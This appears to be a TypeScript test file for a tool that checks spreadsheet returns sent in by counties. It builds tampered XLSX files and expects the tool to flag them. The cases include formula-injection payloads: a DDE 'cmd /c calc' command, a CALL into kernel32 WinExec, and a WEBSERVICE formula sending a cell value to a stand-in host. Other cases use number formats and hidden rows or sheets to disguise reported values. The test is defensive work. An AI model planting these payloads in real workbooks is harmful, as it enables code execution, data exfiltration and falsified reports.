/**
 * Issue 11, items 4 and 5, against the files a hostile county would send: each case is a clean return edited at
 * the XML level (packageEdit.ts), checked as `plan-indicators check` checks a file, with the finding it must give
 * and the exit status. Dangerous content is an error and never travels into the annotated copy; what the county
 * sees must be what is stored.
 */
import { strToU8 } from 'fflate';
import { exitStatusOf } from '../../src/cli/checkJob';
import { annotateWorkbook } from '../../src/xlsx/annotateWorkbook';
import { checkBytes, filledReturn, findingsOf, formsOf, type Form } from '../support/hardening/damagedReturns';
import { PackageEdit } from '../support/hardening/packageEdit';
import { expectFound, type Variant } from '../support/hardening/variants';
import { readXlsxXml } from '../support/hardening/xlsxXml';

const HIGHTECH = 'yuecheng-2021-2025.hightech-enterprises';

let form: Form;
let clean: Uint8Array;

beforeAll(async () => {
  [form] = formsOf(false) as [Form];
  clean = await filledReturn(false);
});

const formulaIn = (formula: string) => (pkg: PackageEdit, f: Form) => {
  pkg.cell(f.name, f.actual(HIGHTECH, 2025), `<f>${formula.replace(/&/gu, '&amp;').replace(/</gu, '&lt;').replace(/"/gu, '&quot;')}</f><v>650</v>`);
};
const onActual = (f: Form) => f.actual(HIGHTECH, 2025);
/** A sheet's relationships holding one hyperlink to `target`, as ExcelJS writes every hyperlink (TargetMode External). */
const linkRels = (target: string) => '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
  + `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="${target.replace(/&/gu, '&amp;').replace(/'/gu, '&apos;')}" TargetMode="External"/></Relationships>`;

/** The cell at `address` given style `style`, its content kept. */
const restyle = (pkg: PackageEdit, f: Form, address: string, style: number) => pkg.change(pkg.sheetPart(f.name), (xml) => {
  const restyled = xml.replace(new RegExp(`<c r="${address}" s="\\d+"`, 'u'), `<c r="${address}" s="${style}"`);
  if (restyled === xml) throw new Error(`no cell ${address}`);
  return restyled;
});

const CASES: Variant[] = [
  { title: 'an external reference in brackets', edit: formulaIn('[1]Sheet1!A1'), code: 'dangerous.external_reference', cell: onActual },
  { title: 'an external reference by path', edit: formulaIn("'C:\\统计\\[台账.xlsx]2025'!C7"), code: 'dangerous.external_reference', cell: onActual },
  { title: 'a UNC path', edit: formulaIn("SUM('\\\\server\\share\\[a.xlsx]S'!A1:A3)"), code: 'dangerous.external_reference', cell: onActual },
  { title: 'INDIRECT building a reference from CHAR codes', edit: formulaIn('INDIRECT(CHAR(91)&"a.xlsx]S!A1")'), code: 'dangerous.indirect', cell: onActual },
  { title: 'OFFSET over an external reference', edit: formulaIn('OFFSET([2]S!A1,0,0)'), code: 'dangerous.external_reference', cell: onActual },
  { title: 'WEBSERVICE sending a cell away', edit: formulaIn('_xlfn.WEBSERVICE("http://x.example/?v="&L14)'), code: 'dangerous.network', cell: onActual },
  { title: 'FILTERXML', edit: formulaIn('_xlfn.FILTERXML("<a>1</a>","//a")'), code: 'dangerous.network', cell: onActual },
  { title: 'HYPERLINK', edit: formulaIn('HYPERLINK("http://x.example","650")'), code: 'dangerous.network', cell: onActual },
  { title: 'a DDE command', edit: formulaIn("cmd|' /c calc'!A0"), code: 'dangerous.dde', cell: onActual },
  { title: 'CALL into a library', edit: formulaIn('CALL("kernel32","WinExec","JCJ","calc",0)'), code: 'dangerous.code', cell: onActual },
  { title: 'RTD', edit: formulaIn('RTD("srv",,"x")'), code: 'dangerous.network', cell: onActual },
  {
    title: 'a defined name into another workbook',
    edit: (pkg) => pkg.change('xl/workbook.xml', (xml) => xml.replace('<definedNames>', '<definedNames><definedName name="台账">[1]Sheet1!$A$1</definedName>')),
    code: 'dangerous.defined_name',
  },
  {
    title: 'a DDE formula on the cover sheet',
    edit: (pkg) => pkg.cell('填报说明', 'A1', "<f>cmd|' /c calc'!A0</f><v>0</v>"),
    code: 'dangerous.formula_elsewhere',
  },
  { title: 'a macro project', edit: (pkg) => pkg.set('xl/vbaProject.bin', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0])), code: 'dangerous.macro_project' },
  { title: 'an externalLinks part', edit: (pkg) => pkg.set('xl/externalLinks/externalLink1.xml', '<externalLink/>'), code: 'dangerous.external_link' },
  { title: 'an embedded OLE object', edit: (pkg) => pkg.set('xl/embeddings/oleObject1.bin', new Uint8Array([1, 2, 3])), code: 'dangerous.ole_object' },
  {
    title: 'a linked picture',
    edit: (pkg) => pkg.set('xl/drawings/_rels/drawing1.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://x.example/p.png" TargetMode="External"/></Relationships>'),
    code: 'dangerous.linked_picture',
  },
  { title: 'a hyperlink out of the workbook', edit: (pkg) => pkg.set('xl/worksheets/_rels/sheet9.xml.rels', linkRels('http://x.example/?v=650')), code: 'dangerous.hyperlink' },
  { title: 'a hyperlink into another workbook after a #', edit: (pkg) => pkg.set('xl/worksheets/_rels/sheet9.xml.rels', linkRels("#'[台账.xlsx]2025'!C7")), code: 'dangerous.hyperlink' },
  {
    title: 'a number format that prints 已达标 over any value',
    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560</v>', ` s="${pkg.style('"已达标"')}"`),
    code: 'form.number_format_hides', cell: onActual,
  },
  {
    title: 'a number format that shows 650 over 560',
    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560</v>', ` s="${pkg.style('"650"')}"`),
    code: 'form.number_format_hides', cell: onActual,
  },
  {
    title: 'a number format that shows nothing (;;;)',
    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560</v>', ` s="${pkg.style(';;;')}"`),
    code: 'form.number_format_hides', cell: onActual,
  },
  {
    title: 'a text section that prints 已达标 over the status formula (0;0;0;"已达标": the status cell shows 已达标 whatever it computes)',
    edit: (pkg, f) => restyle(pkg, f, f.at(HIGHTECH, f.map.columns.status), pkg.style('0;0;0;"已达标"')),
    code: 'form.number_format_hides', cell: (f) => f.at(HIGHTECH, f.map.columns.status),
  },
  {
    title: 'a text section that prints 已核实 over the 说明 typed',
    edit: (pkg, f) => pkg.cell(f.name, f.at(HIGHTECH, f.map.columns.explanation), '<is><t>数据待核</t></is>', ` t="inlineStr" s="${pkg.style('0;0;0;"已核实"', false)}"`),
    code: 'form.number_format_hides', cell: (f) => f.at(HIGHTECH, f.map.columns.explanation),
  },
  ...['[White]0', '[Yellow]0', '[Color2]0', '[COLOR 6]0', '0;[Cyan]-0'].map((format): Variant => ({
    title: `a number format whose colour cannot be told from the page (${format})`,
    edit: (pkg, f) => pkg.cell(f.name, f.actual(HIGHTECH, 2025), '<v>560</v>', ` s="${pkg.style(format, false)}"`),
    code: 'form.number_format_hides', cell: onActual,
  })),
  {
    title: 'a hidden row in the table',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(`<row r="${f.row(HIGHTECH) + 1}" `, `<row r="${f.row(HIGHTECH) + 1}" hidden="1" `)),
    code: 'form.row_hidden', cell: (f) => `${f.row(HIGHTECH) + 1}:${f.row(HIGHTECH) + 1}`,
  },
  {
    title: 'a hidden column in the table',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => {
      // The column of the indicator names (C), whatever width the form gives it.
      const hidden = xml.replace(/<col min="3" max="(\d+)"([^>]*?)\/>/u, '<col min="3" max="$1"$2 hidden="1"/>');
      if (hidden === xml) throw new Error('no <col> for column C in the sheet');
      return hidden;
    }),
    code: 'form.columns_hidden',
  },
  {
    title: 'the reporting sheet very hidden',
    edit: (pkg, f) => pkg.change('xl/workbook.xml', (xml) => xml.replace(`name="${f.name}" state="visible"`, `name="${f.name}" state="veryHidden"`)),
    code: 'form.sheet_hidden',
  },
  {
    title: 'a protection password added',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace('<sheetProtection sheet="1"', '<sheetProtection password="CC3D" sheet="1"')),
    code: 'form.protection_password',
  },
  {
    title: 'the status colours forced green',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(/OR\(\$P8=&quot;已达标&quot;,\$P8=&quot;符合序时进度&quot;\)/u, 'TRUE')),
    code: 'form.conditional_formats_changed',
  },
  {
    title: 'the data validation removed',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => xml.replace(/<dataValidations[\s\S]*?<\/dataValidations>/u, '')),
    code: 'form.validation_changed',
    // A warning (rule form_shown): every value is checked again whatever the sheet allowed; unexplained, it refuses.
    severity: 'warning',
  },
  {
    title: 'a locked cell of the form unlocked (责任部门)',
    edit: (pkg, f) => pkg.change(pkg.sheetPart(f.name), (xml) => {
      const address = f.at(HIGHTECH, f.map.columns.responsible);
      const style = pkg.style(null, false);
      return xml.replace(new RegExp(`<c r="${address}" s="\\d+"`, 'u'), `<c r="${address}" s="${style}"`);
    }),
    code: 'form.cell_unlocked',
  },
];

describe('dangerous content and what the county sees, edited in the XML of a clean return', () => {
  it('the clean return, rewritten by fflate, is accepted', async () => {
    const result = await checkBytes(new PackageEdit(clean).bytes());
    expect(findingsOf(result)).toEqual([]);
    expect(exitStatusOf(result)).toBe(0);
  });

  it('a hyperlink to a cell of the workbook itself (as the pane’s 校验结果 sheet has, written by ExcelJS) leads nowhere outside: accepted', async () => {
    const pkg = new PackageEdit(clean);
    pkg.set('xl/worksheets/_rels/sheet9.xml.rels', linkRels(`#'${form.name}'!${onActual(form)}`));
    const result = await checkBytes(pkg.bytes());
    expect(findingsOf(result)).toEqual([]);
    expect(exitStatusOf(result)).toBe(0);
  });

  it.each(['[Red]0', '#,##0;[Red]-#,##0', '0.00E+00', '0;-0;0;"（文字）"@', '0;-0;0;"已达标"'])('a number in a format that shows it as it is (%s), or whose text section no number uses: no finding', async (format) => {
    const pkg = new PackageEdit(clean);
    pkg.cell(form.name, onActual(form), '<v>560</v>', ` s="${pkg.style(format, false)}"`);
    const result = await checkBytes(pkg.bytes());
    expect(findingsOf(result).filter((finding) => finding.code.startsWith('form.number_format'))).toEqual([]);
  });

  it.each(CASES.map((c) => [c.title, c] as const))('%s', async (_title, c) => {
    await expectFound(clean, form, c);
  });
});

describe('nothing dangerous travels into the annotated copy', () => {
  it('a DDE formula and a WEBSERVICE formula become the values they showed', async () => {
    const pkg = new PackageEdit(clean);
    formulaIn("cmd|' /c calc'!A0")(pkg, form);
    pkg.cell(form.name, form.actual('yuecheng-2021-2025.tech-smes', 2025), '<f>_xlfn.WEBSERVICE("http://x.example")</f><v>12</v>');
    pkg.change('xl/workbook.xml', (xml) => xml.replace('<definedNames>', '<definedNames><definedName name="台账">[1]Sheet1!$A$1</definedName>'));
    const bytes = pkg.bytes();
    const result = await checkBytes(bytes);
    const annotated = await annotateWorkbook(bytes, findingsOf(result), 'zh-CN');
    const xml = await readXlsxXml(annotated);
    expect(xml.formulas.map((formula) => formula.text).filter((text) => /cmd\||WEBSERVICE|\[1\]/iu.test(text))).toEqual([]);
    expect(xml.cells.find((cell) => cell.address === form.actual(HIGHTECH, 2025) && cell.part.endsWith('sheet2.xml'))?.formula).toBeNull();
    expect(Buffer.from(annotated).includes(Buffer.from(strToU8('[1]Sheet1')))).toBe(false);
  });
});
